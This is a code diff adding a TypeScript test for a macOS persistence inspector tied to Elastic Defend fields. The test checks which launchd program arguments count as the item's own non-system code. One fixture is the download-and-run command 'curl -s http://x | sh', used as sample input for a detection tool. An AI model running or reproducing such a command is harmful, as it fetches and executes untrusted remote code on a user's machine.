@@ -176,3 +176,20 @@ describe("Elastic Defend's fields", () => {
     expect(persistenceOf('/x', {}).args).toBeUndefined();
   });
 });
+
+test('its own code is what does not come with macOS: programs, scripts and script texts', () => {
+  const own = (fields: Record<string, PlistValue>) => item(fields).fields.own_code;
+  expect(own({ ProgramArguments: ['true', '-x'] })).toBeUndefined();
+  expect(own({ Program: '/opt/x', ProgramArguments: ['x', '-d'] })).toEqual(['/opt/x']);
+  expect(own({ Program: '/bin/sh', ProgramArguments: ['sh', '-c', 'curl -s http://x | sh'] })).toContain(
+    'curl -s http://x | sh',
+  );
+  // As it is written and as events spell it.
+  expect(own({ Program: '/bin/sh', ProgramArguments: ['sh', '/tmp/x.sh'] })).toEqual([
+    '/tmp/x.sh',
+    '/private/tmp/x.sh',
+  ]);
+  const many = own({ ProgramArguments: Array.from({ length: 500 }, (_, index) => `/opt/${index}`) });
+  expect(many).toHaveLength(16);
+  expect(own({ ProgramArguments: ['x', `/opt/${'y'.repeat(5_000)}`] })).toBeUndefined();
+});
